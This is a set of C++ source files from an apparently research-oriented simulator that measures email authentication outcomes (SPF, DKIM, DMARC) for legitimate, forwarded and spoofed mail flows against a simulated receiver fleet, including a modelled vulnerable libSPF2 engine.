  // later entry replays the same flows against the same (now warmed-up)
  // receiver fleet at the next study round. Greylist state and DMARC pct=
  // sampling drift across rounds, so the series shows how the attack
  // surface looks under recurring re-measurement, not just first contact.
  // Empty when nothing was staged or RunnerOptions::rounds == 0 requested
  // no series beyond the implicit initial entry.
  std::vector<RoundTallies> rounds;

  // Oracle denominators (0 flows -> rate 0).
  double spoof_delivered_rate() const noexcept;
  double spoof_rejected_rate() const noexcept;
  double legit_rejected_rate() const noexcept;  // legit + forwarded
  double permerror_rate() const noexcept;       // over all flows

  // All four rates inside `oracle`'s windows.
  bool satisfies(const Oracle& oracle) const noexcept;
};

struct RunnerOptions {
  std::uint64_t seed = 2021;  // salts the receiver-choice hash only
  // Upper bound on focus domains exercised, so full-scale fleets stay
  // affordable; selection is prefix-deterministic (first N in domain order).
  std::size_t max_domains = 4096;
  // Longitudinal re-measurement rounds beyond the initial pass: the report's
  // `rounds` series gets 1 + rounds entries (entry 0 is the initial state).
  std::size_t rounds = 0;
};

// Run `spec`'s flows against `fleet` (which must have been built with a mix
// that stages the spec's focus — typically resolve_mix of a list including
// it). Baseline specs yield an all-zero report.
ScenarioReport run_scenario(population::Fleet& fleet, const ScenarioSpec& spec,
                            const RunnerOptions& options = {});

}  // namespace spfail::scenario
