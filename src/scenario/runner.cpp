#include "scenario/runner.hpp"

#include <stdexcept>

#include "dkim/dkim.hpp"
#include "mail/message.hpp"
#include "smtp/reply.hpp"
#include "util/rng.hpp"

namespace spfail::scenario {

std::string to_string(FlowClass flow) {
  switch (flow) {
    case FlowClass::Legit:
      return "legit";
    case FlowClass::Forwarded:
      return "forwarded";
    case FlowClass::Spoof:
      return "spoof";
  }
  return "?";
}

FlowClass parse_flow_class(std::string_view text) {
  if (text == "legit") return FlowClass::Legit;
  if (text == "forwarded") return FlowClass::Forwarded;
  if (text == "spoof") return FlowClass::Spoof;
  throw std::invalid_argument("unknown FlowClass '" + std::string(text) + "'");
}

namespace {

double rate(std::uint64_t numerator, std::uint64_t denominator) noexcept {
  return denominator == 0
             ? 0.0
             : static_cast<double>(numerator) / static_cast<double>(denominator);
}

}  // namespace

double ScenarioReport::spoof_delivered_rate() const noexcept {
  return rate(spoof.delivered, spoof.flows);
}

double ScenarioReport::spoof_rejected_rate() const noexcept {
  return rate(spoof.rejected, spoof.flows);
}

double ScenarioReport::legit_rejected_rate() const noexcept {
  return rate(legit.rejected + forwarded.rejected,
              legit.flows + forwarded.flows);
}

double RoundTallies::spoof_delivered_rate() const noexcept {
  return rate(spoof.delivered, spoof.flows);
}

double RoundTallies::legit_rejected_rate() const noexcept {
  return rate(legit.rejected + forwarded.rejected,
              legit.flows + forwarded.flows);
}

double ScenarioReport::permerror_rate() const noexcept {
  return rate(legit.spf_permerror + forwarded.spf_permerror +
                  spoof.spf_permerror,
              legit.flows + forwarded.flows + spoof.flows);
}

bool ScenarioReport::satisfies(const Oracle& oracle) const noexcept {
  return oracle.spoof_delivered.contains(spoof_delivered_rate()) &&
         oracle.spoof_rejected.contains(spoof_rejected_rate()) &&
         oracle.legit_rejected.contains(legit_rejected_rate()) &&
         oracle.permerror.contains(permerror_rate());
}

namespace {

using population::SenderDkim;
using population::SenderPolicy;
using population::SenderRouting;
using population::SenderSpf;

bool focus_selects(Focus focus, const SenderPolicy& policy) {
  if (!policy.staged()) return false;
  switch (focus) {
    case Focus::Baseline:
      return false;
    case Focus::Forwarding:
      return policy.routing == SenderRouting::ForwardPlain ||
             policy.routing == SenderRouting::ForwardSrs;
    case Focus::Alignment:
      return policy.routing == SenderRouting::EspEnvelope ||
             policy.dkim != SenderDkim::None;
    case Focus::Misconfig:
      return policy.spf != SenderSpf::Normal;
  }
  return false;
}

// One flow's ingredients: who dials in, what the envelope says, what the
// message body carries.
struct Flow {
  FlowClass flow_class = FlowClass::Legit;
  util::IpAddress client;
  std::string helo;
  std::string mail_from;  // full addr-spec
  std::string data;       // rendered message
};

std::string render_message(std::string_view from_domain, const char* subject,
                           const SenderPolicy* signer_policy) {
  mail::Message message;
  message.add_header("From", "news@" + std::string(from_domain));
  message.add_header("To", "postmaster@mx.invalid");
  message.add_header("Subject", subject);
  message.add_header("Date", "Mon, 11 Oct 2021 09:00:00 +0000");
  message.set_body("scenario flow\r\n");
  if (signer_policy != nullptr && signer_policy->dkim != SenderDkim::None) {
    const bool aligned = signer_policy->dkim == SenderDkim::Aligned;
    const std::string domain =
        aligned ? std::string(from_domain)
                : std::string(population::kEspSignerDomain);
    const dkim::Signer signer(dns::Name::lenient(domain),
                              std::string(population::kDkimSelector),
                              population::dkim_secret_for(domain));
    signer.sign(message);
  }
  return message.to_string();
}

Flow legit_flow(const population::DomainRecord& domain,
                const SenderPolicy& policy) {
  Flow flow;
  flow.data = render_message(domain.name, "scenario legit flow", &policy);
  switch (policy.routing) {
    case SenderRouting::Direct:
      flow.flow_class = FlowClass::Legit;
      flow.client = domain.addresses.front();
      flow.helo = std::string(domain.name);
      flow.mail_from = "news@" + std::string(domain.name);
      break;
    case SenderRouting::ForwardPlain:
      // The forwarder re-sends with the original MAIL FROM intact — the
      // receiver's SPF sees the victim's policy against the forwarder's IP.
      flow.flow_class = FlowClass::Forwarded;
      flow.client = population::forwarder_address();
      flow.helo = std::string(population::kForwarderDomain);
      flow.mail_from = "news@" + std::string(domain.name);
      break;
    case SenderRouting::ForwardSrs:
      // SRS rewrites the envelope onto the forwarder's own domain: SPF
      // passes again, but no longer aligns with the From domain.
      flow.flow_class = FlowClass::Forwarded;
      flow.client = population::forwarder_address();
      flow.helo = std::string(population::kForwarderDomain);
      flow.mail_from = "srs0=" + std::string(domain.name) + "@" +
                       std::string(population::kForwarderDomain);
      break;
    case SenderRouting::EspEnvelope:
      // The ESP sends under its own bounce domain (SPF-misaligned by
      // construction, the Weak Links shape).
      flow.flow_class = FlowClass::Legit;
      flow.client = population::esp_address();
      flow.helo = std::string(population::kEspSignerDomain);
      flow.mail_from = "bounce@" + std::string(population::kEspBounceDomain);
      break;
  }
  return flow;
}

Flow spoof_flow(const population::DomainRecord& domain) {
  Flow flow;
  flow.flow_class = FlowClass::Spoof;
  flow.client = population::attacker_address();
  flow.helo = "mailer.attacker.example";
  flow.mail_from = "news@" + std::string(domain.name);
  // The adversary forges the From identity but cannot sign for the domain.
  flow.data = render_message(domain.name, "scenario spoof flow", nullptr);
  return flow;
}

// Feed one full SMTP dialog; true when the final "." was accepted.
bool deliver(mta::MailHost& host, const Flow& flow) {
  auto session = host.connect(flow.client);
  if (!session.has_value()) return false;
  if (!session->respond("HELO " + flow.helo).positive()) return false;
  if (!session->respond("MAIL FROM:<" + flow.mail_from + ">").positive()) {
    return false;
  }
  if (!session->respond("RCPT TO:<postmaster@mx.invalid>").positive()) {
    return false;
  }
  if (!session->respond("DATA").intermediate()) return false;

  std::string_view rest = flow.data;
  while (!rest.empty()) {
    std::string line;
    const std::size_t eol = rest.find("\r\n");
    if (eol == std::string_view::npos) {
      line = std::string(rest);
      rest = {};
    } else {
      line = std::string(rest.substr(0, eol));
      rest = rest.substr(eol + 2);
    }
    session->respond(line);
  }
  const smtp::Reply accepted = session->respond(".");
  session->respond("QUIT");
  return accepted.positive();
}

void tally(FlowTally& tally, mta::MailHost& host, bool delivered) {
  ++tally.flows;
  if (delivered) {
    ++tally.delivered;
  } else {
    ++tally.rejected;
  }
  const auto& spf_results = host.last_spf_results();
  if (!spf_results.empty() && spf_results.front() == spf::Result::PermError) {
    ++tally.spf_permerror;
  }
  const auto& dmarc = host.last_dmarc();
  if (dmarc.has_value()) {
    if (delivered &&
        dmarc->disposition == dmarc::Disposition::Quarantine) {
      ++tally.quarantined;
    }
    if (dmarc->sampled_out) ++tally.dmarc_sampled_out;
  }
}

}  // namespace

ScenarioReport run_scenario(population::Fleet& fleet, const ScenarioSpec& spec,
                            const RunnerOptions& options) {
  ScenarioReport report;
  report.name = spec.name;
  report.version = spec.version;

  const auto& receivers = fleet.scenario_receivers();
  if (receivers.empty() || spec.focus == Focus::Baseline) return report;

  // Deterministic receiver choice: an FNV hash of (seed, domain, flow
  // class) over the sorted receiver list, probing past receivers the study
  // blacklisted (they'd 554 every dialog and measure nothing).
  const auto pick_receiver = [&](std::string_view domain,
                                 FlowClass flow_class) -> mta::MailHost* {
    std::size_t index = static_cast<std::size_t>(
        (options.seed ^ util::fnv1a(domain) ^
         (0x9e3779b97f4a7c15ULL * util::fnv1a(to_string(flow_class)))) %
        receivers.size());
    for (std::size_t probes = 0; probes < receivers.size(); ++probes) {
      mta::MailHost* host = fleet.find_host(receivers[index]);
      if (host != nullptr && !host->blacklisted()) return host;
      if (host != nullptr) fleet.release_host(receivers[index]);
      index = (index + 1) % receivers.size();
    }
    return nullptr;
  };

  // Selection pass: the staged focus domains, in domain order, truncated at
  // max_domains. Selection never depends on flow outcomes, so splitting it
  // from the flow loop keeps round 0 byte-identical to the historic
  // interleaved form while letting later rounds replay the same set.
  std::vector<std::size_t> staged;
  const auto& domains = fleet.domains();
  for (std::size_t i = 0; i < domains.size(); ++i) {
    if (!focus_selects(spec.focus, fleet.sender_policy(i))) continue;
    if (staged.size() >= options.max_domains) {
      report.truncated = true;
      break;
    }
    staged.push_back(i);
  }
  report.domains_staged = staged.size();
  if (staged.empty()) return report;

  // Round 0 is the initial measurement; each later round replays the same
  // flows against the same receiver hosts, whose greylist and policy state
  // persists — the longitudinal re-measurement series.
  for (std::size_t round = 0; round <= options.rounds; ++round) {
    RoundTallies out;
    for (const std::size_t i : staged) {
      const population::DomainRecord& domain = domains[i];
      const SenderPolicy& policy = fleet.sender_policy(i);
      const Flow flows[] = {legit_flow(domain, policy), spoof_flow(domain)};
      for (const Flow& flow : flows) {
        mta::MailHost* host = pick_receiver(domain.name, flow.flow_class);
        if (host == nullptr) continue;  // every receiver blacklisted
        const bool delivered = deliver(*host, flow);
        FlowTally& bucket = flow.flow_class == FlowClass::Spoof
                                ? out.spoof
                                : (flow.flow_class == FlowClass::Forwarded
                                       ? out.forwarded
                                       : out.legit);
        tally(bucket, *host, delivered);
        fleet.release_host(host->address());
      }
    }
    if (round == 0) {
      report.legit = out.legit;
      report.forwarded = out.forwarded;
      report.spoof = out.spoof;
    }
    report.rounds.push_back(out);
  }
  return report;
}

}  // namespace spfail::scenario
