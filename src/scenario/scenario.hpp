// ScenarioSpec: named, versioned attack-matrix workloads.
//
// The paper measures one corner of the sender-validation threat model (the
// SPFail macro-expansion vulnerability). The related work shows the
// interesting failures live in *composition*: SPF across forwarding hops
// ("Forward Pass", arXiv 2302.07287), SPF/DKIM/DMARC alignment mismatches
// ("Weak Links in Authentication Chains", arXiv 2011.08420), and plain
// policy misconfiguration ("Lazy Gatekeepers", arXiv 2502.08240). A
// ScenarioSpec bundles the three ingredients one such workload needs:
//
//   * a fleet policy mix — how the population is staged (population::
//     PolicyMix sender rates drawn per domain at fleet build),
//   * a mail-flow topology — which flows the runner drives (src/scenario/
//     runner.hpp selects domains by the spec's Focus),
//   * an expected-outcome oracle — rate windows the measured outcome table
//     must land in (bench_scenarios enforces these).
//
// Specs compose: `--scenario forwarding,misconfig` resolves to one merged
// mix (resolve_mix), and each spec's own outcome table is still reported
// because the Focus keeps attribution clean. The registry is closed — specs
// are versioned in-code so a name always means the same workload.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "population/policy_mix.hpp"

namespace spfail::scenario {

// Which staged domains a scenario's flows exercise (and which outcome
// windows its oracle constrains).
enum class Focus {
  Baseline,    // nothing staged, zero flows — the control
  Forwarding,  // domains routed through the forwarder hop (plain or SRS)
  Alignment,   // ESP envelopes and/or DKIM-signing domains
  Misconfig,   // domains publishing a broken SPF record
};

std::string to_string(Focus focus);
// Strict inverse of to_string; throws std::invalid_argument on unknown text.
Focus parse_focus(std::string_view text);

// Closed interval of acceptable rates for one outcome.
struct RateWindow {
  double lo = 0.0;
  double hi = 0.0;
  bool contains(double value) const noexcept {
    return value >= lo && value <= hi;
  }
};

// What the scenario is expected to measure, as rate windows over the
// runner's flow tallies (see runner.hpp for the exact denominators).
struct Oracle {
  RateWindow spoof_delivered;  // delivered / spoof flows
  RateWindow spoof_rejected;   // rejected / spoof flows
  RateWindow legit_rejected;   // rejected / (legit + forwarded) flows
  RateWindow permerror;        // SPF permerror / all flows
};

struct ScenarioSpec {
  std::string name;     // registry key, also the --scenario token
  int version = 1;      // bumped whenever mix/oracle semantics change
  std::string summary;  // one line for reports and --help
  Focus focus = Focus::Baseline;
  population::PolicyMix mix;
  Oracle oracle;
};

// The built-in registry: baseline, forwarding, alignment, misconfig.
const std::vector<ScenarioSpec>& builtin_scenarios();

// Registry lookup; nullptr when `name` is not a built-in.
const ScenarioSpec* find_scenario(std::string_view name);

// Parse "NAME[,NAME...]" (the --scenario / SPFAIL_SCENARIO value) into
// specs. Throws std::invalid_argument — listing the valid names — on an
// unknown, duplicate, or empty token.
std::vector<ScenarioSpec> parse_scenario_list(std::string_view csv);

// Merge the specs' mixes into the one PolicyMix the fleet builds with:
// receiver rates must agree across specs (they do for all built-ins),
// sender rates add, DMARC policy shares combine publish-weighted, and pct=
// takes the minimum over publishing specs. Validates the result.
population::PolicyMix resolve_mix(const std::vector<ScenarioSpec>& specs);

}  // namespace spfail::scenario
