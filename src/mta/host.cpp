#include "mta/host.hpp"

#include <algorithm>

#include "dkim/dkim.hpp"
#include "dmarc/discovery.hpp"
#include "mail/message.hpp"

namespace spfail::mta {

MailHost::MailHost(HostProfile profile, dns::DnsService& dns_service,
                   const util::SimClock& clock,
                   spf::SharedRecordCache* record_cache)
    : profile_(std::move(profile)),
      clock_(clock),
      record_cache_(record_cache),
      resolver_(dns_service, clock, profile_.address),
      behaviors_(profile_.behaviors),
      flaky_rng_(profile_.address.is_v4() ? profile_.address.v4_value()
                                          : 0x6D7461ULL),
      dmarc_seed_(util::fnv1a(profile_.address.to_string())) {
  for (const auto behavior : behaviors_) {
    engines_.push_back(spfvuln::make_expander(behavior));
    evaluators_.push_back(std::make_unique<spf::Evaluator>(
        resolver_, *engines_.back(), spf::EvaluatorLimits{}, record_cache_));
  }
}

void MailHost::apply_patch() {
  patched_ = true;
  for (std::size_t i = 0; i < behaviors_.size(); ++i) {
    if (behaviors_[i] == spfvuln::SpfBehavior::VulnerableLibspf2) {
      behaviors_[i] = spfvuln::SpfBehavior::PatchedLibspf2;
      engines_[i] = spfvuln::make_expander(behaviors_[i]);
      evaluators_[i] = std::make_unique<spf::Evaluator>(
          resolver_, *engines_[i], spf::EvaluatorLimits{}, record_cache_);
    }
  }
}

bool MailHost::runs_vulnerable_engine() const noexcept {
  for (const auto behavior : behaviors_) {
    if (spfvuln::is_vulnerable(behavior)) return true;
  }
  return false;
}

std::optional<smtp::ServerSession> MailHost::connect(
    const util::IpAddress& client) {
  if (!profile_.accepts_connections) return std::nullopt;
  return smtp::ServerSession(*this, client);
}

smtp::Reply MailHost::on_hello(const std::string& client_identity,
                               const util::IpAddress& client) {
  (void)client_identity;
  (void)client;
  if (profile_.smtp_broken) return smtp::replies::service_unavailable();
  if (blacklisted_) return smtp::replies::blacklisted();
  return smtp::replies::ok();
}

spf::Result MailHost::run_spf(const std::string& sender_local,
                              const std::string& sender_domain,
                              const util::IpAddress& client) {
  last_spf_results_.clear();
  if (profile_.flaky_spf_rate > 0.0 &&
      flaky_rng_.bernoulli(profile_.flaky_spf_rate)) {
    // The evaluation stalls right after the policy fetch: the TXT query is
    // visible at the authoritative server, nothing conclusive follows.
    resolver_.query(dns::Name::lenient(sender_domain), dns::RRType::TXT);
    last_spf_results_.push_back(spf::Result::TempError);
    return spf::Result::TempError;
  }
  spf::Result primary = spf::Result::None;
  for (std::size_t i = 0; i < engines_.size(); ++i) {
    spf::Evaluator& evaluator = *evaluators_[i];
    spf::CheckRequest request;
    request.client_ip = client;
    request.sender_local = sender_local;
    request.sender_domain = dns::Name::lenient(sender_domain);
    request.helo_domain = dns::Name::lenient("scanner.invalid");
    request.timestamp = clock_.now();
    const spf::CheckOutcome outcome = evaluator.check_host(request);
    last_spf_results_.push_back(outcome.result);
    if (i == 0) primary = outcome.result;
  }
  return primary;
}

smtp::Reply MailHost::on_mail_from(const std::string& sender_local,
                                   const std::string& sender_domain,
                                   const util::IpAddress& client) {
  mail_from_spf_result_ = spf::Result::None;
  if (blacklisted_) return smtp::replies::blacklisted();

  if (profile_.greylists) {
    const auto it = greylist_seen_.find(client);
    if (it == greylist_seen_.end()) {
      greylist_seen_.emplace(client, clock_.now());
      return smtp::replies::greylisted();
    }
    if (clock_.now() - it->second < profile_.greylist_delay) {
      return smtp::replies::greylisted();
    }
  }

  if (profile_.dns_tempfail_rate > 0.0 &&
      flaky_rng_.bernoulli(profile_.dns_tempfail_rate)) {
    return smtp::replies::dns_tempfail();
  }

  if (profile_.validates_spf && profile_.spf_timing == SpfTiming::AtMailFrom &&
      !sender_domain.empty()) {
    const spf::Result result = run_spf(sender_local, sender_domain, client);
    mail_from_spf_result_ = result;
    if (result == spf::Result::Fail && profile_.rejects_spf_fail) {
      return smtp::replies::rejected_by_policy();
    }
  }
  return smtp::replies::ok();
}

smtp::Reply MailHost::on_rcpt_to(const std::string& recipient,
                                 const util::IpAddress& client) {
  (void)client;
  if (!profile_.known_recipients.empty()) {
    const auto parts = smtp::split_mailbox(recipient);
    const std::string local = parts.has_value() ? parts->local : recipient;
    if (std::find(profile_.known_recipients.begin(),
                  profile_.known_recipients.end(),
                  local) == profile_.known_recipients.end()) {
      return smtp::replies::mailbox_unavailable();
    }
  }
  return smtp::replies::ok();
}

smtp::Reply MailHost::on_message(const smtp::Envelope& envelope,
                                 const util::IpAddress& client) {
  last_dmarc_.reset();
  if (profile_.rejects_messages) {
    return smtp::Reply{554, "Transaction failed: message content rejected"};
  }
  spf::Result spf_result =
      profile_.spf_timing == SpfTiming::AtMailFrom ? mail_from_spf_result_
                                                   : spf::Result::None;
  if (profile_.validates_spf && profile_.spf_timing == SpfTiming::AfterData &&
      !envelope.sender_domain.empty()) {
    spf_result = run_spf(envelope.sender_local, envelope.sender_domain, client);
    if (spf_result == spf::Result::Fail && profile_.rejects_spf_fail) {
      return smtp::replies::rejected_by_policy();
    }
  }
  if (profile_.checks_dmarc && !envelope.sender_domain.empty()) {
    dmarc::EvaluationInput input;
    input.spf_result = spf_result;
    input.spf_domain = dns::Name::lenient(envelope.sender_domain);
    // The envelope sender domain stands in for RFC5322.From on dataless
    // transactions (the scanner's probes); real messages carry a From
    // header — and possibly a DKIM signature — that override it.
    input.from_domain = input.spf_domain;
    if (!envelope.data.empty()) {
      try {
        const mail::Message message = mail::Message::parse(envelope.data);
        if (const auto from = message.from_domain(); from.has_value()) {
          input.from_domain = *from;
        }
        if (message.count_header("dkim-signature") > 0) {
          const dkim::Verification verification =
              dkim::verify(message, resolver_);
          input.dkim_result = verification.result;
          input.dkim_domain = verification.domain;
        }
      } catch (const std::exception&) {
        // Unparseable data: fall back to envelope identifiers, as edge
        // filters do.
      }
    }
    const dmarc::Evaluator evaluator(resolver_, dmarc_seed_);
    last_dmarc_ = evaluator.evaluate(input);
    if (last_dmarc_->disposition == dmarc::Disposition::Reject) {
      return smtp::Reply{550, "Rejected by DMARC policy"};
    }
  }
  return smtp::replies::ok();
}

}  // namespace spfail::mta
