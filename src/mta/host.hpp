// A simulated Internet mail host (MTA).
//
// Each host binds together: an SMTP server FSM, zero or more SPF validation
// engines (one per software stack the host runs — 6% of hosts in the paper
// showed two or more distinct expansion patterns), a stub resolver pointed at
// the simulation's DNS service, and operational quirks (connection refusal,
// broken SMTP, greylisting, blacklisting of scanners, recipient policy).
//
// The scanner never sees any of this state directly; it sees SMTP replies
// and, through the authoritative DNS server's query log, the host's SPF
// lookups — exactly the observables of the paper's methodology.
#pragma once

#include <array>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "dmarc/evaluator.hpp"
#include "dns/resolver.hpp"
#include "smtp/server.hpp"
#include "spf/eval.hpp"
#include "spfvuln/behavior.hpp"
#include "util/rng.hpp"

namespace spfail::mta {

// When the host triggers SPF validation during a transaction.
enum class SpfTiming {
  AtMailFrom,  // validates as soon as MAIL FROM arrives (NoMsg-detectable)
  AfterData,   // defers until the message is received (needs BlankMsg)
};

struct HostProfile {
  util::IpAddress address;

  // Reachability tiers (Table 3 funnel).
  bool accepts_connections = true;  // false: TCP connect refused/timeout
  bool smtp_broken = false;         // accepts TCP, then fails the SMTP dialog

  bool greylists = false;  // first transaction per client deferred with 451
  util::SimTime greylist_delay = 8 * util::kMinute;

  bool validates_spf = true;
  SpfTiming spf_timing = SpfTiming::AtMailFrom;
  bool rejects_spf_fail = true;

  // Additionally performs DMARC policy discovery on received messages and
  // honours the published disposition (the paper's probe source domains
  // publish p=reject precisely so such receivers drop the blank probes,
  // section 6.2).
  bool checks_dmarc = false;

  // Probability that one SPF evaluation aborts after fetching the policy
  // (resolver timeouts, overloaded filters). These hosts are the paper's
  // "inconclusive but potentially re-measurable" cohort (§6.1): the
  // authoritative log shows the TXT fetch but no conclusive probe query.
  double flaky_spf_rate = 0.0;

  // Probability that a MAIL FROM is answered 450 (4.4.3 temporary DNS
  // failure) before any SPF runs — the host's own resolver path hiccuping.
  // Transient: the scanner's retry engine re-attempts these dialogs.
  double dns_tempfail_rate = 0.0;

  // SPF engines the host runs (primary stack first). Hosts with multiple
  // entries model chained SMTP hops / spam-filter stacks (section 7.9).
  std::vector<spfvuln::SpfBehavior> behaviors = {
      spfvuln::SpfBehavior::RfcCompliant};

  // Recipients accepted for delivery; empty accepts anything. A flat vector
  // (not a set): the lists are tiny and fixed, and linear scans beat a
  // node-per-name container both in lookups and in bytes per host.
  std::vector<std::string> known_recipients;

  // Accepts the whole dialog but rejects message content at end-of-DATA
  // (the Table 3 "BlankMsg SMTP failure" shape: fine under NoMsg, fails the
  // moment a message is actually transmitted).
  bool rejects_messages = false;
};

class MailHost : public smtp::SessionHandler {
 public:
  // `dns_service` and `clock` must outlive the host; so must `record_cache`
  // when set (optional, not owned): the fleet-wide shared SPF parse memo
  // every engine's evaluator reads through (DESIGN.md §16). Null keeps all
  // parse memoisation host-local.
  MailHost(HostProfile profile, dns::DnsService& dns_service,
           const util::SimClock& clock,
           spf::SharedRecordCache* record_cache = nullptr);

  const HostProfile& profile() const noexcept { return profile_; }
  const util::IpAddress& address() const noexcept { return profile_.address; }

  // --- lifecycle operations driven by the longitudinal simulation ---

  // Replace every vulnerable engine with the patched library.
  void apply_patch();
  bool is_patched() const noexcept { return patched_; }

  // Once blacklisted, the host accepts TCP but aborts SMTP with 5XX/421
  // (the paper's dominant cause of lost longitudinal measurements).
  void set_blacklisted(bool value) noexcept { blacklisted_ = value; }
  bool blacklisted() const noexcept { return blacklisted_; }

  // Scanner-visible state a measurement leaves behind, exposed so a
  // checkpoint can rebuild the host exactly: the greylist first-contact map
  // and the flaky-path RNG cursor. Resolver cache entries need no such
  // treatment — record TTLs (300 s) expire long before the next round
  // (2 days), so the cache never carries across a checkpoint boundary.
  const std::map<util::IpAddress, util::SimTime>& greylist_seen()
      const noexcept {
    return greylist_seen_;
  }
  void set_greylist_seen(std::map<util::IpAddress, util::SimTime> seen) {
    greylist_seen_ = std::move(seen);
  }
  std::array<std::uint64_t, 4> flaky_rng_state() const noexcept {
    return flaky_rng_.state();
  }
  void set_flaky_rng_state(const std::array<std::uint64_t, 4>& state) noexcept {
    flaky_rng_.set_state(state);
  }

  // True if any engine is the vulnerable libSPF2.
  bool runs_vulnerable_engine() const noexcept;
  const std::vector<spfvuln::SpfBehavior>& behaviors() const noexcept {
    return behaviors_;
  }

  // --- the network-facing surface ---

  // Open an SMTP session. nullopt models a refused/timed-out TCP connect.
  std::optional<smtp::ServerSession> connect(const util::IpAddress& client);

  // smtp::SessionHandler:
  smtp::Reply on_hello(const std::string& client_identity,
                       const util::IpAddress& client) override;
  smtp::Reply on_mail_from(const std::string& sender_local,
                           const std::string& sender_domain,
                           const util::IpAddress& client) override;
  smtp::Reply on_rcpt_to(const std::string& recipient,
                         const util::IpAddress& client) override;
  smtp::Reply on_message(const smtp::Envelope& envelope,
                         const util::IpAddress& client) override;

  // Most recent SPF results, one per engine (diagnostics and tests).
  const std::vector<spf::Result>& last_spf_results() const noexcept {
    return last_spf_results_;
  }

  // The DMARC evaluation of the most recent on_message, when this host
  // checks DMARC and one ran (scenario runner and test observability).
  const std::optional<dmarc::Evaluation>& last_dmarc() const noexcept {
    return last_dmarc_;
  }

 private:
  // Run every SPF engine against the sender; returns the policy decision of
  // the primary (first) engine.
  spf::Result run_spf(const std::string& sender_local,
                      const std::string& sender_domain,
                      const util::IpAddress& client);

  HostProfile profile_;
  const util::SimClock& clock_;
  spf::SharedRecordCache* record_cache_ = nullptr;
  dns::StubResolver resolver_;
  std::vector<spfvuln::SpfBehavior> behaviors_;
  std::vector<std::unique_ptr<spf::MacroExpander>> engines_;
  // One persistent evaluator per engine: its parsed-record memo then lives
  // across messages, so repeated policy fetches parse once per host.
  std::vector<std::unique_ptr<spf::Evaluator>> evaluators_;
  std::vector<spf::Result> last_spf_results_;
  // Client address -> first contact time. Keyed by the address value itself
  // (DESIGN.md §14): the lookup on every MAIL FROM is a 17-byte compare
  // instead of a to_string() allocation plus string compare.
  std::map<util::IpAddress, util::SimTime> greylist_seen_;
  util::Rng flaky_rng_;  // seeded from the address; deterministic per host
  // SPF result of the current transaction's MAIL FROM validation (AtMailFrom
  // hosts), fed to DMARC at on_message so an aligned pass can rescue a
  // message. Stateless pct= sampling keys off dmarc_seed_, so evaluation
  // order — and lazy-vs-eager host materialisation — cannot shift outcomes.
  spf::Result mail_from_spf_result_ = spf::Result::None;
  std::uint64_t dmarc_seed_ = 0;
  std::optional<dmarc::Evaluation> last_dmarc_;
  bool blacklisted_ = false;
  bool patched_ = false;
};

}  // namespace spfail::mta
