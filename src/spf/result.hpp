// SPF evaluation results (RFC 7208 section 2.6).
#pragma once

#include <string>

namespace spfail::spf {

enum class Result {
  None,       // no SPF record published
  Neutral,    // "?" — domain makes no assertion
  Pass,       // client is authorized
  Fail,       // client is NOT authorized
  SoftFail,   // "~" — probably not authorized
  TempError,  // transient DNS failure
  PermError,  // unrecoverable policy error (syntax, too many lookups, ...)
};

std::string to_string(Result r);

}  // namespace spfail::spf
