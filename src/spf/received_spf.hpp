// The Received-SPF trace header (RFC 7208 section 9.1) and the HELO-identity
// check (section 2.3) — the remaining surface a mail stack needs from an SPF
// library beyond check_host() itself.
#pragma once

#include "spf/eval.hpp"

namespace spfail::spf {

// Format the Received-SPF header field for a completed check, e.g.:
//
//   Received-SPF: pass (mx.example.org: domain of user@example.com
//     designates 203.0.113.7 as permitted sender) client-ip=203.0.113.7;
//     envelope-from="user@example.com"; helo=client.example.net;
//
// `receiver` names the host performing the check (goes into the comment).
std::string received_spf_header(const CheckOutcome& outcome,
                                const CheckRequest& request,
                                std::string_view receiver);

// RFC 7208 section 2.3: check the HELO identity. Equivalent to check_host()
// with the HELO domain as <domain> and "postmaster" as the local part.
CheckOutcome check_helo(Evaluator& evaluator, const util::IpAddress& client_ip,
                        const dns::Name& helo_domain);

}  // namespace spfail::spf
