#include "spf/record_cache.hpp"

#include "util/rng.hpp"

namespace spfail::spf {

SharedRecordCache::~SharedRecordCache() {
  table_.for_each(
      [](std::uint64_t, const Slot& slot) { delete slot.entry; });
}

const SharedRecordCache::Entry* SharedRecordCache::lookup(
    const std::string& text) {
  const std::uint64_t hash = util::fnv1a(text);
  try {
    for (int salt = 0; salt <= kMaxSalt; ++salt) {
      const std::uint64_t key =
          hash + static_cast<std::uint64_t>(salt) * kSaltStep;
      const auto found = table_.find_or_insert(key, [&](Slot& slot) {
        auto* entry = new Entry;
        entry->text = text;
        try {
          entry->record = parse_record(text);
          entry->ok = true;
        } catch (const RecordSyntaxError&) {
          entry->ok = false;
        }
        slot.entry = entry;
      });
      if (found.inserted) {
        misses_.fetch_add(1, std::memory_order_relaxed);
        return found.payload->entry;
      }
      if (found.payload->entry->text == text) {
        hits_.fetch_add(1, std::memory_order_relaxed);
        return found.payload->entry;
      }
      // A different text owns this key (64-bit collision): re-probe salted.
    }
  } catch (const util::TableFullError&) {
    // Sizing bound exceeded: degrade to the caller's private memo.
  }
  return nullptr;
}

}  // namespace spfail::spf
