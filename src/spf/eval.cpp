#include "spf/eval.hpp"

#include <algorithm>

#include "util/strings.hpp"

namespace spfail::spf {

namespace {

Result qualifier_result(Qualifier q) {
  switch (q) {
    case Qualifier::Pass:
      return Result::Pass;
    case Qualifier::Fail:
      return Result::Fail;
    case Qualifier::SoftFail:
      return Result::SoftFail;
    case Qualifier::Neutral:
      return Result::Neutral;
  }
  return Result::PermError;
}

constexpr int kMaxRecursionDepth = 20;  // belt-and-braces on include loops

}  // namespace

CheckOutcome Evaluator::check_host(const CheckRequest& request) {
  State state;
  state.request = request;
  if (state.request.sender_local.empty()) {
    // RFC 7208 section 4.3: an empty local part becomes "postmaster".
    state.request.sender_local = "postmaster";
  }

  CheckOutcome outcome;
  std::string explanation;
  outcome.result = check_domain(state, request.sender_domain, &explanation);
  outcome.explanation = std::move(explanation);
  outcome.dns_mechanism_lookups = state.mechanism_lookups;
  outcome.void_lookups = state.void_lookups;
  return outcome;
}

Result Evaluator::check_domain(State& state, const dns::Name& domain,
                               std::string* explanation) {
  if (++state.recursion_depth > kMaxRecursionDepth) return Result::PermError;

  // 1. Fetch and select the SPF record.
  const dns::ResolveResult txt = resolver_.query(domain, dns::RRType::TXT);
  if (txt.rcode == dns::Rcode::ServFail) return Result::TempError;

  std::vector<std::string> spf_records;
  for (const auto& rr : txt.answers) {
    if (const auto* rdata = std::get_if<dns::TxtRdata>(&rr.rdata)) {
      const std::string joined = rdata->joined();
